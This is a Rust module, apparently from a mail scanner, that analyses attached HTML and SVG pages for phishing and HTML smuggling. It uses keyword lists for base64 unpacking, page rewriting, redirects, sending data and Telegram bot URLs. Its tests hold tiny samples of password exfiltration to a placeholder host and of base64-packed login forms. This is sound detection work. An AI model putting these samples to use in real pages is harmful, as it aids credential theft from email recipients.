//! Attached web pages and pictures in SVG: what they ask, build, and where they lead.

mod unpack;

use super::bytes::{has, start};
use crate::mail::{Address, Host, HtmlFacts, Url, UrlSource, decode, html, transfer, url::Urls};

/// How files are called that browsers show as a page, lower case.
pub(crate) const PAGE_ENDINGS: [&str; 8] = ["html", "htm", "shtml", "xhtml", "xht", "svg", "mht", "mhtml"];

/// Whether a browser shows a file as a page because of its name. One with other pages in it (RFC 2557) is not read.
pub(crate) fn is_called_page(name: &str) -> bool {
    let name = name.trim_end_matches(|c: char| !c.is_alphanumeric());
    let ending = name.rsplit_once('.').map(|(_, ending)| ending.to_lowercase()).unwrap_or_default();
    PAGE_ENDINGS.contains(&ending.as_str()) && !ending.starts_with("mh")
}

/// Whether that page is a picture.
pub(super) fn is_called_picture(name: &str) -> bool {
    let name = name.trim_end_matches(|c: char| !c.is_alphanumeric());
    name.rsplit_once('.').is_some_and(|(_, ending)| ending.eq_ignore_ascii_case("svg"))
}

/// Most bytes of a page that are read as HTML.
const MAX_HTML: usize = 256 * 1024;

/// Most bytes in which scripts are looked through.
const MAX_SCRIPT: usize = 2 * 1024 * 1024;

/// Most links kept of one page.
const MAX_LINKS: usize = 50;

/// Characters kept of its text, and addresses.
const MAX_TEXT: usize = 2000;
const MAX_ADDRESSES: usize = 20;

/// Words of a page that are tried for an address packed in them.
const MAX_TRIES: usize = 1000;

/// Digits of base64 in a row that are more than a picture's beginning or a key.
const LONG_DIGITS: usize = 1000;

/// What makes a file of bytes within the browser.
const MAKES_FILES: [&[u8]; 5] =
    [b"createObjectURL", b"msSaveOrOpenBlob", b"msSaveBlob", b"new Blob", b"showSaveFilePicker"];

/// What writes a page anew, or runs what was packed.
const WRITES: [&[u8]; 6] =
    [b"document.write", b"innerHTML", b"insertAdjacentHTML", b"eval(", b"document.open", b"Function("];

/// What unpacks what no scanner reads.
const UNPACKS: [&[u8]; 7] =
    [b"atob", b"unescape(", b"fromCharCode", b"decodeURIComponent", b"decodeURI(", b"CryptoJS", b"charCodeAt"];

/// What sends something without a form, and where a script only sends to somebody's telephone.
const SENDS: [&[u8]; 7] = [b"XMLHttpRequest", b"fetch(", b"sendBeacon", b"$.ajax", b"$.post", b"axios", b"Email.send"];
const TELEPHONE: &[u8] = b"api.telegram.org/bot";

/// What leads to another page without being asked.
const LEAVES: [&[u8]; 6] = [
    b"location.href",
    b"location.replace",
    b"location.assign",
    b"window.location",
    b"document.location",
    b"top.location",
];

/// What an attached page does.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Page {
    /// Whether there are scripts in it.
    pub has_script: bool,
    /// Whether a script makes a file of what is packed in the page.
    pub makes_file: bool,
    /// Whether a script writes the page anew from what is packed in it.
    pub writes_itself: bool,
    /// Whether it leads to another page by itself: by script or by refresh.
    pub leaves: bool,
    /// Fields for passwords, with those in what is packed in it.
    pub passwords: u32,
    /// Whether a script sends what is typed into such a field, or writes to a chat on somebody's telephone.
    pub sends: bool,
    /// Frames and embedded things.
    pub embedded: u32,
    /// Fields of forms that are sent to the web: where to.
    pub posts_to: Vec<Host>,
    /// Whether there is a long text in base64 that is no picture or font.
    pub has_payload: bool,
    /// Characters of text that it shows before any script runs.
    pub text_chars: u32,
    /// Its title, at most 256 characters.
    pub title: Option<String>,
    /// The beginning of its text, with that of what is packed in it, at most 2,000 characters.
    pub text: String,
    /// Mail addresses that stand in it, in base64 too, at most 20.
    pub addresses: Vec<Address>,
    /// Whether it is one of many in an archive: a handbook, or a site that somebody has saved.
    pub is_of_site: bool,
}

/// Reads a page; its links go to `urls`.
pub(super) fn read(content: &[u8], charset: Option<&str>, urls: &mut Vec<Url>) -> Page {
    let mut facts = HtmlFacts::default();
    let mut found = Urls::default();
    let mut page = Page::default();
    let shown = html::read(&decode::text(start(content, MAX_HTML), charset), &mut facts, &mut found).text;
    page.text_chars = facts.visible_chars;
    page.add_text(&shown);
    page.add_addresses(start(content, MAX_HTML));
    let scripts = start(content, MAX_SCRIPT);
    let packed = unpack::texts(scripts);
    for text in &packed {
        let text = decode::text(start(text, MAX_HTML), None);
        page.add_text(&html::read(&text, &mut facts, &mut found).text);
        page.add_addresses(text.as_bytes());
    }
    page.has_script = 0 < facts.scripts;
    page.passwords = facts.password_fields;
    page.embedded = facts.embedded;
    page.leaves = facts.refreshes;
    page.title = facts.title;
    let leads = |url: &Url| matches!(url.source, UrlSource::Link | UrlSource::Form) && url.host.is_some();
    for url in found.into_list().into_iter().filter(leads).take(MAX_LINKS) {
        if url.source == UrlSource::Form {
            page.posts_to.extend(url.host.clone());
        }
        urls.push(Url { source: UrlSource::File, anchor: None, ..url });
    }
    if page.has_script {
        page.has_payload = has_payload(scripts);
        look_at_scripts(scripts, &mut page);
        for text in &packed {
            look_at_scripts(text, &mut page);
        }
    }
    page
}

impl Page {
    /// Takes over what another page in the same archive does.
    pub(super) fn add(&mut self, other: Self) {
        self.has_script |= other.has_script;
        self.makes_file |= other.makes_file;
        self.writes_itself |= other.writes_itself;
        self.leaves |= other.leaves;
        self.passwords = self.passwords.saturating_add(other.passwords);
        self.sends |= other.sends;
        self.embedded = self.embedded.saturating_add(other.embedded);
        self.posts_to.extend(other.posts_to);
        self.has_payload |= other.has_payload;
        self.text_chars = self.text_chars.saturating_add(other.text_chars);
        self.title = self.title.take().or(other.title);
        self.add_text(&other.text);
        for address in other.addresses {
            if self.addresses.len() < MAX_ADDRESSES && !self.addresses.contains(&address) {
                self.addresses.push(address);
            }
        }
    }

    fn add_text(&mut self, text: &str) {
        let kept = self.text.chars().count();
        self.text.extend(text.chars().take(MAX_TEXT.saturating_sub(kept)));
    }

    /// Adds the addresses that stand in `text`, as they are or in base64.
    fn add_addresses(&mut self, text: &[u8]) {
        let is_sign = |byte: u8| byte.is_ascii_alphanumeric() || b"@._+-=".contains(&byte);
        let words = text.split(|byte| !is_sign(*byte)).filter(|word| (6..=200).contains(&word.len()));
        let mut tries = MAX_TRIES;
        for word in words {
            let Ok(word) = str::from_utf8(word) else { continue };
            let bare = word.rsplit('=').find(|piece| !piece.is_empty()).unwrap_or_default();
            let packed = word.trim_end_matches('=');
            let found = if bare.contains('@') {
                Address::parse(bare.trim_end_matches('.'))
            } else if 12 <= packed.len() && 0 < tries {
                tries -= 1;
                transfer::unpacked(packed).filter(|text| text.contains('@')).and_then(|text| Address::parse(&text))
            } else {
                None
            };
            if let Some(address) = found.filter(|address| !self.addresses.contains(address)) {
                self.addresses.push(address);
            }
            if MAX_ADDRESSES <= self.addresses.len() {
                break;
            }
        }
    }
}

fn look_at_scripts(script: &[u8], page: &mut Page) {
    let any = |marks: &[&[u8]]| marks.iter().any(|mark| has(script, mark));
    let unpacks = any(&UNPACKS);
    page.makes_file |= unpacks && any(&MAKES_FILES);
    page.writes_itself |= unpacks && any(&WRITES);
    page.leaves |= any(&LEAVES);
    page.sends |= 0 < page.passwords && any(&SENDS) || has(script, TELEPHONE);
}

/// Whether a long row of base64 digits stands there that does not belong to a picture, a font or a style in the page.
fn has_payload(script: &[u8]) -> bool {
    let is_digit = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    let mut begin = 0;
    let runs = script.split(|byte| !is_digit(*byte));
    for run in runs {
        if LONG_DIGITS <= run.len() {
            let before = script.get(begin_of(begin)..begin).unwrap_or_default();
            let is_shown = [&b"data:image/"[..], b"data:font/", b"data:application/font", b"data:application/x-font"]
                .iter()
                .any(|mark| has(before, mark));
            if !is_shown {
                return true;
            }
        }
        begin += run.len() + 1;
    }
    false
}

/// How far before its digits a `data:` link begins at most.
const fn begin_of(digits: usize) -> usize {
    digits.saturating_sub(64)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_page_that_builds_a_file_is_known() {
        let payload = "QUJD".repeat(400);
        let text = format!("<script>var b = new Blob([atob('{payload}')]); a.href = URL.createObjectURL(b);</script>");
        let page = read(text.as_bytes(), None, &mut Vec::new());
        assert!(page.makes_file && page.has_payload && page.has_script && !page.writes_itself, "{page:?}");
    }

    #[test]
    fn a_picture_in_a_page_is_no_payload() {
        let picture = "QUJD".repeat(400);
        let text = format!("<p>Report</p><img src=\"data:image/png;base64,{picture}\"><script>draw(3)</script>");
        let page = read(text.as_bytes(), None, &mut Vec::new());
        assert!(!page.has_payload && !page.makes_file && page.text_chars == 6, "{page:?}");
    }

    #[test]
    fn forms_and_links_are_where_they_lead() {
        let mut urls = Vec::new();
        let text =
            b"<form action=https://nordhaven.example/x><input type=password></form><a href=http://a.example/>b</a>";
        let page = read(text, None, &mut urls);
        assert_eq!((page.passwords, page.posts_to.len(), urls.len()), (1, 1, 2));
        assert!(urls.iter().all(|url| url.source == UrlSource::File));
    }

    #[test]
    fn a_login_packed_in_a_page_is_seen() {
        let form = "<title>Mail</title><p>Sign in</p><form action=http://a.example/><input type=password></form>";
        let (form, to) = (transfer::encode_base64(form.as_bytes()), transfer::encode_base64(b"bob@example.org"));
        let text = format!("<p>Loading</p><script>var to = atob('{to}'); document.write(atob('{form}'))</script>");
        let page = read(text.as_bytes(), None, &mut Vec::new());
        assert_eq!((page.passwords, page.posts_to.len(), page.title.as_deref()), (1, 1, Some("Mail")));
        assert_eq!((page.text.as_str(), page.text_chars), ("LoadingSign in", 7));
        assert_eq!(page.addresses, [Address::parse("bob@example.org").unwrap()]);
    }

    #[test]
    fn addresses_are_found_wherever_they_stand() {
        let text =
            b"<input value=\"bob@example.org\"><a href='http://a.example/?to=ann@example.org&x#eve@example.net.'>x</a>";
        let page = read(text, None, &mut Vec::new());
        let found: Vec<String> = page.addresses.iter().map(ToString::to_string).collect();
        assert_eq!(found, ["bob@example.org", "ann@example.org", "eve@example.net"]);
    }

    #[test]
    fn a_base_address_leads_nowhere_by_itself() {
        assert!(!read(b"<base href=http://a.example/><p>saved", None, &mut Vec::new()).leaves);
        assert!(!read(b"<meta http-equiv=refresh content=30><p>state", None, &mut Vec::new()).leaves);
        assert!(read(b"<meta http-equiv=refresh content='0;url=http://a.example/'>", None, &mut Vec::new()).leaves);
    }

    #[test]
    fn only_a_script_beside_a_field_for_a_password_sends_it() {
        for (text, want) in [
            ("<input type=password><script>fetch('https://a.example/', {body: p})</script>", true),
            ("<input type=text><script>fetch('https://a.example/', {body: p})</script>", false),
            ("<script>u = 'https://api.telegram.org/bot1:x/sendMessage'</script>", true),
        ] {
            assert_eq!(read(text.as_bytes(), None, &mut Vec::new()).sends, want, "{text}");
        }
    }
}
